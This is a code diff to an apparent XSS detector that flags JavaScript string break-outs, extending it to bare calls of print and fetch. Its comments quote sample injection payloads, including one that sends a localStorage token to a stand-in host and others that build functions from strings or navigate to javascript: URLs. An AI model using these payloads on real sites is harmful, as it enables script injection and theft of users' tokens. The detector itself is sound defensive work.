@@ -141,6 +141,7 @@ function ssjsPunctFull(st: usize, j: usize, c: u32, start: u32, end: u32): void 
 //   '+Reflect.construct(Function,[name])()+'  Function.call(       a function built from a string, not called by name
 //   '+fetch('//x/?'+localStorage.token)+'                          a stored secret read (localStorage. sessionStorage[)
 //   ';with(location)href=name//  ${open(name,'_self')}           location as a with's scope, window.open called
+//   '+print()+'  ${print()}  '+fetch('//x.example')+'              the window's print and fetch called by their bare names
 //
 // What leaves the string: the quote (or backtick), then optionally closers ) ] }, inline comments /**/, and an
 // operator glued to it (; - + * % | & ^), or whitespace and ';'. A quote with a word or a space and a prose dash after
@@ -196,8 +197,10 @@ const S_FUNC_CLOSE: u32 = 21; // (Function): '(' calls it
 const S_STORE: u32 = 22;      // localStorage sessionStorage: '.' or '[' reads it
 const S_WITH: u32 = 23;       // with: waiting for '(' glued
 const S_WITH_P: u32 = 24;     // with(: location as the scope reports (with(location)href=name)
-const S_OPEN: u32 = 25;       // open (not a member: xhr.open): '(' glued calls window.open (open(name,'_self') runs a
-                              // javascript: URL in this window)
+const S_OPEN: u32 = 25;       // open print fetch (not a member: xhr.open, doc.print): '(' or '`' glued calls the window's
+                              // function (open(name,'_self') runs a javascript: URL in this window; print() opens the print
+                              // dialog, the proof where alert is blocked in a cross-origin frame; fetch('//x') is an
+                              // out-of-band probe)
 const S_IMPORT_PL: u32 = 26;  // import(s: a ')' glued is English's plural marker ("Import(s) and export(s)"); anything else reports
 const S_IMPORT_PLD: u32 = 27; // import(s): a space after it (or the end) is the sentence's; code after it ('-import(s)-',
                               // import(s)//) reports
@@ -257,7 +260,12 @@ function jsbWord(st: usize, j: usize, word: usize, len: u32, start: u32, end: u3
   else if (wordIs(word, len, "construct") || wordIs(word, len, "apply")) next = S_CTOR;
   else if (wordIs(word, len, "function")) next = S_FUNC;
   else if (wordIs(word, len, "with")) next = S_WITH;
+  // (the window's own functions that act when called by their bare name; alert confirm prompt are xss.ts's sinks anywhere.
+  // Any other name called after '+' or in '${' is how code builds a string, 'Total: '+total()+'!' and `${fmt(d)}`; after
+  // the other operators xss.ts reports any call: '-f()-'. print and fetch only after a full break-out: prose puts a comma
+  // after a quoted word and then names the call, "`document`, for example a `fetch()` call")
   else if (wordIs(word, len, "open")) next = dotted ? 0 : S_OPEN;
+  else if (wordIs(word, len, "print") || wordIs(word, len, "fetch")) next = dotted || (mode & JB_WEAK) != 0 ? 0 : S_OPEN;
   else if (wordIs(word, len, "localstorage") || wordIs(word, len, "sessionstorage")) next = S_STORE;
   else if (globalName(word, len)) next = S_GLOBAL;
   s32(j, JB_SINK, next);
@@ -390,7 +398,7 @@ function jsbSink(st: usize, j: usize, c: u32, end: u32): void {
   else if (s == S_ASSIGN || s == S_CTOR) next = space ? s : c == 0x28 ? s + 1 : 0;
   else if (s == S_WITH) next = c == 0x28 ? S_WITH_P : 0; // (glued: "with (location) known" is prose's)
   else if (s == S_ASSIGN_P || s == S_CTOR_P || s == S_WITH_P) next = space ? s : 0;
-  else if (s == S_OPEN && c == 0x28) { jsbReport(st, j, end); return; } // open(name,'_self')
+  else if (s == S_OPEN && (c == 0x28 || (c == 0x60 && !weak))) { jsbReport(st, j, end); return; } // open(name,'_self')  print()  print`1`
   else if (s == S_FUNC || s == S_FUNC_SP) next = space ? S_FUNC_SP : s == S_FUNC_SP ? 0 : c == 0x2e ? S_FUNC_DOT : c == 0x29 ? S_FUNC_CLOSE : 0;
   else if (s == S_FUNC_CLOSE && c == 0x28) { jsbReport(st, j, end); return; } // (Function)(code)
   else if (s == S_STORE) {
